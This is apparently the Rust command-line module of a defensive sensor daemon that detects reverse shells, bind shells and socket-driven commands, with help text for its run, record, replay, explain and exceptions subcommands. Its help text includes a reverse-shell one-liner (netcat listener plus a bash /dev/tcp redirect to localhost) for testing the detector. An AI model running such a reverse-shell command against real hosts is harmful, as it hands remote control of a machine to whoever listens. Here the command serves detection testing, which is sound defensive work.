//! The command line: one file a subcommand, `reporting` for what several of them share, `sensor` for what runs live. `--help` is
//! documentation.

mod check_config;
mod completions;
mod delivery;
mod doctor;
mod enrichment;
mod exceptions;
mod explain;
mod findings;
mod memory;
mod outputs;
mod record;
mod replay;
mod reporting;
mod run;
mod stored;

use std::{
    io::{self, IsTerminal as _, Write as _},
    process::ExitCode,
};

use clap::{CommandFactory as _, Parser, Subcommand};
use tracing_subscriber::{EnvFilter, layer::SubscriberExt as _, util::SubscriberInitExt as _};

use crate::{VERSION, model::Text};

/// Reports when a network peer takes control of a program on this host: reverse shells, bind shells, and UNIX commands
/// run through a socket.
///
/// It looks, in the kernel, at what the standard streams of every executed program ARE, and, where they are pipes, at who
/// holds the other ends, so neither the name of the shell nor the way in which it was connected matters. One takeover is
/// one finding, kept current until it ends.
#[derive(Debug, Parser)]
#[command(name = "sensor-daemon", version = VERSION, max_term_width = 100, propagate_version = true)]
#[command(after_help = "\
First steps:
  sensor-daemon doctor    is everything there that the sensor needs?
  sensor-daemon run       watch; findings on standard output, diagnostics on standard error

Then, from another terminal, a reverse shell to yourself:
  nc -lp 4444 &
  bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")]
struct Cli {
    /// More diagnostics on standard error: -v debug, -vv also what the kernel side says. RUST_LOG overrides
    #[arg(short, long, action = clap::ArgAction::Count, global = true)]
    verbose: u8,
    #[command(subcommand)]
    command: Command,
}

#[derive(Debug, Subcommand)]
enum Command {
    /// Watch this host and write findings to standard output until told to stop
    ///
    /// Findings go to standard output: for people if that is a terminal, else one JSON object a line. --output, --format and the
    /// configuration file say otherwise; what the command line says wins over the file, that over the default. The first line of a
    /// finding comes at once, further ones with the same `finding.name` as it grows, the last with state INACTIVE.
    /// Diagnostics go to standard error.
    ///
    /// A self-test precedes everything: the sensor refuses to run if it does not see its own child, or if the configuration
    /// file is wrong; that file is read once, at start. Under systemd (Type=notify) readiness is reported after the test.
    /// Takeovers that are under way then are reported as well. SIGTERM and SIGINT write the last state of open findings and end the
    /// sensor with exit status 0; a standard output that nobody reads any more ends it with status 1.
    Run(run::Arguments),
    /// Watch like `run`, and record everything that the rule judges, for `replay`
    ///
    /// The recording is one file of JSON lines: programs that were executed on pipes, terminals and connections, with their
    /// arguments, and what was open when. Arguments can hold passwords, so only its owner may read the file. Bytes of
    /// connections are not recorded.
    ///
    /// If it can't be written any further (the disk is full), one line says so and watching goes on without. It grows by a
    /// few hundred bytes to some kilobytes for each program that is judged.
    #[command(after_help = "\
Try an exception before it is in force:
  sensor-daemon record today.jsonl > findings.jsonl         as root; ^C once the work was done
  sensor-daemon replay today.jsonl --config ./config.toml   as anybody: what would be reported")]
    Record(record::Arguments),
    /// Judge a recording: what would be reported under this configuration
    ///
    /// Needs neither root nor the machine that was recorded. Findings come out as `run` writes them, byte for byte the same
    /// under the same settings; names of users in the configuration file are looked up on this machine.
    ///
    /// What was not followed when it was recorded can't be replayed: record with --min-severity low, and with the exceptions
    /// in force disabled, to see everything.
    #[command(after_help = "\
Examples:
  sensor-daemon replay today.jsonl --format human
  sensor-daemon replay today.jsonl --config ./config.toml | jq -r .finding.description
  zstd -dc today.jsonl.zst | sensor-daemon replay -")]
    Replay(replay::Arguments),
    /// List the findings that the sensor has kept
    ///
    /// Reads the sensor's record, while it runs or when it does not: the newest state of each finding, by the time of its
    /// last change. The first column is the beginning of the id, which `explain` takes.
    #[command(after_help = "\
Examples:
  sensor-daemon findings --state active
  sensor-daemon findings --since 2h --severity high
  sensor-daemon findings --peer 203.0.113.7 --format json | jq -r .finding.description
  sensor-daemon findings --follow")]
    Findings(findings::Arguments),
    /// Show how each output is doing: what waits for it, and why it takes nothing
    ///
    /// Reads the sensor's record, as `findings` does. WAITING counts the states of findings that the output has not had; they are
    /// kept for it. Exits 0 if all outputs take findings, 1 otherwise.
    #[command(after_help = "\
Examples:
  sensor-daemon outputs
  sensor-daemon outputs --format json | jq -r 'select(.state != \"ok\") | .reason'")]
    Outputs(outputs::Arguments),
    /// Tell the whole story of a finding: what happened, through what, to what, how bad, what to do now
    ///
    /// On one screen: the verdict and its evidence; the chain from the peer to the shell; the process tree; commands and times;
    /// how the process is confined, with what is risky marked by !; related findings; where the logs are; and commands to
    /// copy that stop it, collect evidence and cut the peer off. Nothing is run by this command.
    #[command(after_help = "\
Examples:
  sensor-daemon explain 3f2a91c0
  sensor-daemon explain 3f2a91c0 --format html > finding.html     for the ticket
  sensor-daemon explain 3f2a91c0 --format json | jq -r '.steps[].commands[]'")]
    Explain(explain::Arguments),
    /// Check each prerequisite: is it there, what does it cost if not, what to do
    ///
    /// Each line begins with ok, degraded (the sensor runs, and sees less; the line says what) or missing (it does not run).
    /// Loads the sensor's programs into the kernel for a moment and attaches nothing, beside a sensor that runs as well.
    /// Exits 0 if the sensor can run here, 1 if not.
    Doctor(doctor::Arguments),
    /// List what is never reported: the built-in exceptions and the configuration file's, with their reasons
    ///
    /// An exception is a takeover that is meant to be: a login through sshd, `kubectl exec`, the jobs of a CI runner. Each
    /// is shown with all of its conditions; if every one of them holds, nothing is reported. Nothing runs and nothing is
    /// changed by this command.
    ///
    /// A finding that is ordinary work on your hosts becomes an exception of your own in
    /// /etc/sensor-daemon/config.toml; docs/exceptions.md shows every field. An exception that is too wide for your
    /// hosts is turned off there: disable_exceptions = ["x11-forwarding"]
    #[command(after_help = "\
Examples:
  sensor-daemon exceptions
  sensor-daemon exceptions --config ./config.toml
  sensor-daemon exceptions --format json | jq -r '.[] | select(.disabled) | .id'")]
    Exceptions(exceptions::Arguments),
    /// Check a configuration file before a sensor reads it: OK, or everything that is wrong with it
    ///
    /// Every problem is a line on standard error, FILE:LINE: what is wrong; what to do. Exits 0 if there is none, 1
    /// otherwise; `run` refuses to start with the same words. Run it on the host that the file is for: names of users are
    /// looked up.
    #[command(after_help = "\
A file to begin with:
  min_severity = \"medium\"
  output = [\"journald\", \"file=/var/log/sensor-daemon/findings.json\"]

  [[exception]]
  id = \"nightly-backup\"
  reason = \"The backup server's agent runs rsync on the connection it opens.\"
  binary = \"/usr/bin/rsync\"
  peer = \"10.1.0.0/16\"")]
    CheckConfig(check_config::Arguments),
    /// Write the completion script of a shell to standard output
    #[command(after_help = "\
Examples:
  sensor-daemon completions bash > /etc/bash_completion.d/sensor-daemon
  sensor-daemon completions zsh > /usr/local/share/zsh/site-functions/_sensor-daemon
  sensor-daemon completions fish > ~/.config/fish/completions/sensor-daemon.fish")]
    Completions(completions::Arguments),
    /// Write the manual pages, one a subcommand, into a directory: what a package does
    #[command(hide = true)]
    Man(completions::ManArguments),
}

/// Parses the command line and does what it says.
#[must_use]
pub fn main() -> ExitCode {
    let cli = Cli::parse();
    start_diagnostics(cli.verbose);
    let result = match cli.command {
        Command::Run(arguments) => run::run(&arguments, cli.verbose >= 2),
        Command::Record(arguments) => record::record(&arguments, cli.verbose >= 2),
        Command::Replay(arguments) => replay::replay(&arguments),
        Command::Findings(arguments) => findings::findings(&arguments),
        Command::Outputs(arguments) => outputs::outputs(&arguments),
        Command::Explain(arguments) => explain::explain(&arguments),
        Command::Doctor(arguments) => doctor::doctor(&arguments),
        Command::Exceptions(arguments) => exceptions::exceptions(&arguments),
        Command::CheckConfig(arguments) => check_config::check_config(&arguments),
        Command::Completions(arguments) => completions::completions(&arguments, Cli::command()),
        Command::Man(arguments) => completions::man(&arguments, Cli::command()),
    };
    result.unwrap_or_else(|error| {
        // One line for each thing that was wrong, and no escape of a foreign byte.
        let chain = error.chain().map(ToString::to_string).collect::<Vec<_>>().join(": ");
        for line in chain.lines() {
            // A closed standard error is no reason to die differently.
            let _ = writeln!(io::stderr(), "sensor-daemon: {}", Text::from(line).for_terminal());
        }
        ExitCode::FAILURE
    })
}

/// Diagnostics go to standard error; standard output belongs to findings.
fn start_diagnostics(verbose: u8) {
    let default = match verbose {
        0 => "info,aya=warn,aya_obj=warn",
        1 => "info,sensor_daemon=debug",
        _ => "debug,sensor_daemon=trace",
    };
    let asked = std::env::var(EnvFilter::DEFAULT_ENV)
        .ok()
        .filter(|text| !text.is_empty());
    let (filter, refused) = match asked.as_deref().map(EnvFilter::try_new) {
        Some(Ok(filter)) => (filter, None),
        Some(Err(error)) => (EnvFilter::new(default), Some(error)),
        None => (EnvFilter::new(default), None),
    };
    let terminal = io::stderr().is_terminal();
    let layer = tracing_subscriber::fmt::layer()
        .with_writer(io::stderr)
        .with_ansi(terminal && std::env::var_os("NO_COLOR").is_none_or(|value| value.is_empty()))
        .with_target(verbose > 0);
    // Journald stamps lines itself.
    let journal = std::env::var_os("JOURNAL_STREAM").is_some();
    let registry = tracing_subscriber::registry().with(filter);
    // Only a second call can fail, and there is none.
    let _ = if journal {
        registry.with(layer.without_time()).try_init()
    } else {
        registry.with(layer).try_init()
    };
    if let Some(error) = refused {
        tracing::warn!("RUST_LOG is not understood and left out: {error}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_command_line_is_consistent() {
        Cli::command().debug_assert();
    }
}
